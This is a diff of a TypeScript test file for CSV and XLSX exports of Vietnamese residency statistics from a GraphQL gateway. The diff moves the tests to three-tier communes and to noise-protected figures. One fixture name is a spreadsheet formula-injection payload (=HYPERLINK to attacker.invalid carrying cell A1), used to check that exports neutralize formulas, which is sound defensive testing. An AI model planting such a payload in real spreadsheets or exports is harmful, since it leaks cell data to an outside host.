@@ -2,19 +2,20 @@
  * CSV and XLSX answers through the gateway (gateway/export), as analysts and links ask for them:
  * parsed back (csv-parse, exceljs) and compared cell by cell with the JSON answer of the same
  * operation, itself checked against the fixture; a negative number stays a number, a Vietnamese
- * name survives (UTF-8 with a BOM), a formula-like name is neutralized, withheld figures are
- * empty cells exactly where the analyst's JSON has nulls; person-level exports are audited;
+ * name survives (UTF-8 with a BOM), a formula-like name is neutralized, an analyst's protected
+ * figures are the same in every format; person-level exports are audited;
  * errors are JSON with a 4xx, never half a file; exports are cached under keys of their own,
  * which also cover today's date; Cache-Control follows the caller.
  */
 import ExcelJS from 'exceljs';
 import { parse as parseCsv } from 'csv-parse/sync';
-import { childrenOf } from '../../lib/admin-units';
+import { placeOf } from '../../lib/areas';
 import { upsertFacts } from '../../lib/fact-store';
-import { applyDeltas } from '../../lib/summary-store';
+import { applyDeltas } from '../../lib/summaries';
 import { citizenFacts, residencySummary } from '../../services/residency/facts';
 import { loadPersistedOperations } from '../../gateway/persisted-operations';
-import { communeIn, countResidency, makeFixture } from '../helpers/fixture';
+import { countResidency, makeFixture } from '../helpers/fixture';
+import { oldCommunesOf, reference, successorsOf } from '../helpers/reference';
 import { startGraph, testDatabases, tokenFor, type Caller, type RunningGraph } from '../helpers/graph';
 
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
@@ -23,15 +24,21 @@ const fixture = makeFixture('export', 6);
 // A name that would run as a formula in Excel, and one with Vietnamese diacritics.
 const FORMULA_NAME = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Xem")';
 const VIETNAMESE_NAME = 'Nguyễn Thị Hằng Đặng';
-const COMMUNE = childrenOf('290')[0].code;
-const inCommune = fixture.citizens.filter((c) => c.communeCode === COMMUNE);
+// A commune of Chí Linh (three-tier) that passed whole into one new commune: its facts have one place.
+const COMMUNE = oldCommunesOf('290').find((c) => successorsOf(c).length === 1)!;
+const inCommune = fixture.citizens.filter((c) => c.communeCode === COMMUNE && c.communeStructure === 'THREE_TIER');
+/** True when a three-tier commune lies in a three-tier unit (the unit itself, its district or province). */
+const communeIn = (commune: string, area: string) => {
+  const c = reference().oldCommunes.get(commune)!;
+  return area === 'VN' || [c.code, c.district, c.province].includes(area);
+};
 inCommune[0].fullName = FORMULA_NAME;
 inCommune[1].fullName = VIETNAMESE_NAME;
 
 /**
  * A correction removing more registrations from the commune in June 2024 than were made there
- * that month: its `newRegistrations` for 2024-06 is negative (-2), as "net of records removed"
- * allows. Written as the domain's write path writes figures (applyDeltas).
+ * that month: its `newRegistrations` for 2024-06 is negative (-2), as a correction delivered as
+ * figures could make it. Written as the domain's write path writes figures (applyDeltas).
  */
 const JUNE = { start: '2024-06-01', end: '2024-06-30' };
 const removed = countResidency(fixture, COMMUNE, JUNE.start, JUNE.end).newRegistrations + 2;
@@ -41,16 +48,16 @@ function expected(areaCode: string, start: string, end: string) {
   const counted = countResidency(fixture, areaCode, start, end);
   const corrected = communeIn(COMMUNE, areaCode);
   return {
-    population: counted.population - (corrected && end >= '2024-06-10' ? removed : 0),
+    population: counted.population,
     newRegistrations: counted.newRegistrations - (corrected && start <= '2024-06-10' && end >= '2024-06-10' ? removed : 0),
     eidLevel2: counted.eidLevel2,
   };
 }
 
-const DISTRICTS = `query DistrictFigures($p: String!) { province(code: "30") { name districts { code name stats(period: $p) {
-  residency { population newRegistrations eidLevel2 suppressedFields } indicators { eidLevel2Coverage } } } } }`;
+const DISTRICTS = `query DistrictFigures($p: String!) { province(code: "30", structure: THREE_TIER) { name districts { code name stats(period: $p) {
+  residency { population newRegistrations eidLevel2 protected } indicators { eidLevel2Coverage } } } } }`;
 const COMMUNES = `query CommuneFigures { district(code: "290") { name communes { code name stats(period: "2024-06") { residency { population newRegistrations } } } } }`;
-const PEOPLE = `query People($c: String!) { citizens(communeCode: $c, first: 100) { totalCount nodes { id fullName residenceCommuneCode } } }`;
+const PEOPLE = `query People($c: String!) { citizens(communeCode: $c, structure: THREE_TIER, first: 100) { totalCount nodes { id fullName residenceCommuneCode } } }`;
 
 interface Reply {
   status: number;
@@ -95,7 +102,7 @@ function districtTable(json: any): unknown[][] {
     d.stats.residency.population,
     d.stats.residency.newRegistrations,
     d.stats.residency.eidLevel2,
-    d.stats.residency.suppressedFields.join('; '),
+    d.stats.residency.protected,
     d.stats.indicators.eidLevel2Coverage,
   ]);
 }
@@ -106,7 +113,7 @@ const DISTRICT_COLUMNS = [
   'province.districts.stats.residency.population',
   'province.districts.stats.residency.newRegistrations',
   'province.districts.stats.residency.eidLevel2',
-  'province.districts.stats.residency.suppressedFields',
+  'province.districts.stats.residency.protected',
   'province.districts.stats.indicators.eidLevel2Coverage',
 ];
 
@@ -116,27 +123,26 @@ describe.each(testDatabases())('CSV and XLSX answers on $label', (database) => {
   beforeAll(async () => {
     graph = await startGraph(database.config('export'), async (dbs) => {
       await dbs.residency.transaction((trx) => upsertFacts(trx, citizenFacts, fixture.citizens));
-      await dbs.residency.transaction((trx) => applyDeltas(trx, residencySummary, [{ communeCode: COMMUNE, date: '2024-06-10', metric: 'population', delta: -removed }]));
+      const place = placeOf(COMMUNE, 'THREE_TIER', 'correction', 'people').cell;
+      await dbs.residency.transaction((trx) => applyDeltas(trx, residencySummary, [{ place, date: '2024-06-10', metric: 'registrations', delta: -removed }], { deliveredThrough: '2026-11-29' }));
     });
   });
   afterAll(() => graph?.stop());
 
-  test("an analyst's CSV and XLSX are the JSON answer cell by cell: withheld figures empty cells where its JSON has nulls, Vietnamese names intact", async () => {
+  test("an analyst's CSV and XLSX are the JSON answer cell by cell: the same protected figures in every format", async () => {
     const analyst: Caller = { role: 'analyst' };
     const json = JSON.parse((await ask(graph, DISTRICTS, { p: '2024-06' }, analyst)).text);
     expect(json.errors).toBeUndefined();
-    // The JSON is right: exact where shown, and something is withheld.
+    // The JSON is right: each count protected, within 2 of the truth (a negative correction is left as it is).
     const rows = districtTable(json);
     for (const d of json.data.province.districts) {
       const exact = expected(d.code, JUNE.start, JUNE.end);
+      expect(d.stats.residency.protected).toBe(true);
       for (const figure of ['population', 'newRegistrations', 'eidLevel2'] as const) {
         const value = d.stats.residency[figure];
-        // Withheld (null, and said so), or the exact figure.
-        if (value === null) expect(d.stats.residency.suppressedFields).toContain(figure);
-        else expect({ district: d.code, figure, value }).toEqual({ district: d.code, figure, value: exact[figure] });
+        expect({ district: d.code, figure, close: Math.abs(value - exact[figure]) <= 2 }).toEqual({ district: d.code, figure, close: true });
       }
     }
-    expect(rows.flat().filter((v) => v === null).length).toBeGreaterThan(0);
 
     const csv = await ask(graph, DISTRICTS, { p: '2024-06' }, analyst, { accept: 'text/csv' });
     expect(csv.status).toBe(200);
@@ -153,7 +159,7 @@ describe.each(testDatabases())('CSV and XLSX answers on $label', (database) => {
     expect(xlsx.headers.get('content-type')).toBe(XLSX);
     const sheet = await xlsxRows(xlsx.bytes);
     expect(sheet[0]).toEqual(DISTRICT_COLUMNS);
-    // Numbers are number cells, nulls empty cells, text as the JSON has it.
+    // Numbers are number cells, booleans boolean cells, text as the JSON has it.
     expect(sheet.slice(1)).toEqual(rows.map((r) => r.map((v) => (v === '' ? null : xlsxValue(v)))));
     expect(sheet.slice(1).flat().some((v) => typeof v === 'number')).toBe(true);
   });
@@ -246,11 +252,12 @@ describe.each(testDatabases())('CSV and XLSX answers on $label', (database) => {
     expect(xlsx2.headers.get('content-type')).toBe(XLSX);
 
     // Another day is another key (TODAY stands in for the calendar here).
+    const today = process.env.TODAY;
     process.env.TODAY = '2031-01-01';
     try {
       expect((await ask(graph, DISTRICTS, vars, analyst, { accept: 'text/csv' })).headers.get('x-cache')).toBe('MISS');
     } finally {
-      delete process.env.TODAY;
+      process.env.TODAY = today;
     }
     expect((await ask(graph, DISTRICTS, vars, analyst, { accept: 'text/csv' })).headers.get('x-cache')).toBe('HIT');
 
@@ -261,7 +268,7 @@ describe.each(testDatabases())('CSV and XLSX answers on $label', (database) => {
   });
 
   test('a link (GET, ?format=csv, a browser\'s Accept) answers a table of what anyone may read, public; and a persisted operation by hash too', async () => {
-    const query = '{ provinces { code name districts { code name } } }';
+    const query = '{ provinces(structure: THREE_TIER) { code name districts { code name } } }';
     const link = `${graph.gatewayUrl}?query=${encodeURIComponent(query)}&format=csv`;
     const res = await fetch(link, { headers: { accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' } });
     expect(res.status).toBe(200);
@@ -288,7 +295,7 @@ describe.each(testDatabases())('CSV and XLSX answers on $label', (database) => {
 
   // Reference data only: the same on every database, so run once.
   (database.label === 'sqlite' ? test : test.skip)('a large answer is streamed as it is written: every commune of the country, in CSV and XLSX', async () => {
-    const query = '{ provinces { code districts { code communes { code name } } } }';
+    const query = '{ provinces(structure: THREE_TIER) { code districts { code communes { code name } } } }';
     const json = JSON.parse((await ask(graph, query, {}, 'anonymous')).text);
     // A district without communes (island districts) still has its row, the commune cells empty.
     const table = json.data.provinces.flatMap((p: any) => p.districts.flatMap((d: any) => (d.communes.length ? d.communes.map((c: any) => [p.code, d.code, c.code, c.name]) : [[p.code, d.code, null, null]])));
